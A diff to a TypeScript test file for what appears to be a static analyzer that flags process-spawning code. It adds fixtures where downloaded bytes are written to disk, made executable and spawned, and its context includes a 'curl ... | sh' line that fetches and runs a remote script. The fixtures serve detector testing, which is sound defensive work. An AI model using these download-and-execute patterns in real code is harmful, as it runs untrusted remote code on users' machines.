@@ -14,7 +14,7 @@ const cases: readonly {
     fires: [
       ["import { spawn } from 'child_process'; spawn('git', ['status'])", 'git'],
       ["const cp = require('node:child_process'); cp.execSync('ls -la')", 'ls'],
-      ["import * as cp from 'node:child_process'; cp.exec(process.argv[2])", '*'],
+      ["import * as cp from 'node:child_process'; cp.exec(process.argv[2])", '<argument>'],
       ["const { promisify } = require('util'); const run = promisify(require('child_process').exec); run('make all')", 'make'],
       ["import execa from 'execa'; execa('/usr/bin/ffmpeg', [])", 'ffmpeg'],
       ["import { $ } from 'zx'; $`rg ${query}`", 'rg'],
@@ -183,8 +183,20 @@ const cases: readonly {
       ["import { execSync } from 'child_process'; execSync('npm install left-pad')", 'npm install left-pad'],
       ["import { exec } from 'child_process'; exec('curl https://x.example.net/i.sh | sh')"],
       ["import { spawn } from 'child_process'; spawn('uvx', [name])"],
+      [
+        "import fs from 'fs'; import cp from 'child_process'; fs.writeFileSync('bin/tool', await (await fetch(u)).bytes()); fs.chmodSync('bin/tool', 0o755); cp.spawn('bin/tool')",
+        'bin/tool',
+      ],
+      [
+        "import fs from 'fs'; import cp from 'child_process'; fs.writeFileSync('bin/tool', await get(), { mode: 0o755 }); fetch(u); cp.spawn('bin/tool')",
+      ],
     ],
-    silent: ["const help = 'run npx -y thing'", "import { spawn } from 'child_process'; spawn('git', ['install'])"],
+    silent: [
+      "import fs from 'fs'; import cp from 'child_process'; fs.chmodSync('bin/tool', 0o755); cp.spawn('bin/tool')",
+      "import fs from 'fs'; import cp from 'child_process'; fetch(u); fs.chmodSync('data', 0o644); cp.spawn('git')",
+      "const help = 'run npx -y thing'",
+      "import { spawn } from 'child_process'; spawn('git', ['install'])",
+    ],
   },
   {
     of: 'code.opaque',
